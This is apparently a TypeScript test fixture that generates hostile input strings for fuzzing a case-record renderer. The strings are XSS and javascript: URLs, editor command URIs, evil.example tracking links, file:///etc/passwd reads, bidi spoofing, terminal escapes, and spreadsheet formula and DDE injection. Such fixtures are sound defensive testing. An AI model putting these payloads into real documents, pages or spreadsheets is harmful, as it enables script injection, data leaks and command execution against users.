const payloads = [
  'command:workbench.action.quit',
  '[click](command:chron.restart)',
  '[x](javascript:alert(1))',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '![x](data:image/svg+xml;base64,AA==)',
  '![](https://evil.example/pixel.png?name=C)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="https://evil.example">x</a>',
  '<https://evil.example>',
  'https://evil.example/?q=C',
  'www.evil.example',
  'mailto:a@evil.example',
  'a@evil.example',
  'file:///etc/passwd',
  'vscode://file/etc/passwd',
  '\\\\evil\\share\\x',
  '[x][1]',
  '[1]: https://evil.example',
  '`code`',
  '```\ncode',
  '$(alert)',
  '$(sync~spin)',
  '&lt;img src=x&gt;',
  '&#x3C;img&#x3E;',
  '**bold** _under_ ~~out~~',
  '# heading',
  '> quote',
  '| a | b |',
  '1. item',
  '- [ ] task',
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068x\u2069',
  '\u200Fright\u200E',
  '\u061Cx',
  '\u001B[2J\u001B[31mred\u001B[0m',
  '\u001B]0;title\u0007',
  '\u001B]8;;https://evil.example\u001B\\link\u001B]8;;\u001B\\',
  '\u009B31m',
  '\u0007\u0008\u0000',
  'a\u2028b\u2029c',
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  '+1+cmd|"/c calc"!A1',
  '-1+1',
  '@SUM(1+1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${process.exit()}',
  '%s%s%n %c',
];

const dresses: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Mr ${payload}`,
  (payload) => `${payload} and ${payload}`,
  (payload) => `"${payload}" (${payload})`,
];

/** 200 texts, each of which means something somewhere: in Markdown, HTML, a terminal, a spreadsheet, a link. */
export const hostileStrings: readonly string[] = payloads.flatMap((payload) => dresses.map((dress) => dress(payload)));

/** A case in which each of `strings` is a person, a source, a step, a note, a date, and words of every kind of field. */
export function hostileCase(strings: readonly string[]): string {
  const each = (line: (text: string, i: number) => string) => strings.map(line).join('\n');
  return [
    `title: ${strings[0] ?? ''}`,
    `council: ${strings[1] ?? ''}`,
    `local rules: ${strings[2] ?? ''}`,
    'people:',
    each((text, i) => `    ${text}: child, ${strings[(i + 1) % strings.length] ?? ''}`),
    '    C: child',
    '    Mr B: father of C',
    'sources:',
    each((text, i) => `    D${i}: ${text}`),
    each(
      (text, i) =>
        `${(i % 28) + 1} May 2019: ICPC about C with ${text} @e${i}\n    outcome: ${text}\n    ${i % 10 === 0 ? `account: 3 May 2019, ${text}` : `account: ${text}`}\n    source: D${i} ${text}\n    because: ${text}\n    ${text}`,
    ),
    each((text) => `${text}: ${text}`),
    each((text, i) => `${(i % 28) + 1} June 2019: ${text}`),
    each((text) => `3 June 2019 - ${text}\n    except: ${text}`),
    each((text) => `after ${text}: home visit to ${text}`),
  ].join('\n');
}
